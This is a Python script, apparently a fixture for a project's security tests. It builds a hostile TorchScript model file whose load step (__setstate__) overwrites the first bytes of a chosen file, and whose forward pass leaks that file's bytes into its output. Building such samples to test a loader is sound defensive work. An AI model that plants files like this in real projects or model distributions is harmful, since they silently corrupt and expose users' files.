"""Writes a hostile TorchScript "map": loading it (its __setstate__) overwrites the first 4 bytes of
TARGET with "AAAA", and its forward() copies the first bytes of TARGET into the output pixels.
    python3 hostile_torchscript.py OUT.pt TARGET
Made at test time (tests/security/hostile_map.sh): a map file must never be able to do this."""
import sys
from typing import Tuple

import torch


class Hostile(torch.nn.Module):
    def __init__(self, target: str):
        super().__init__()
        self.path = target
        self.hit = torch.zeros(1)

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, bool]) -> None:
        self.path = state[0]
        self.training = state[1]
        self.hit = torch.from_file(self.path, True, 4, dtype=torch.uint8).fill_(65)

    def forward(self, x):
        leaked = torch.from_file(self.path, False, 4, dtype=torch.uint8).to(torch.float32)
        return x * 0 + leaked.mean() / 127.5 - 1


torch.jit.script(Hostile(sys.argv[2])).save(sys.argv[1])
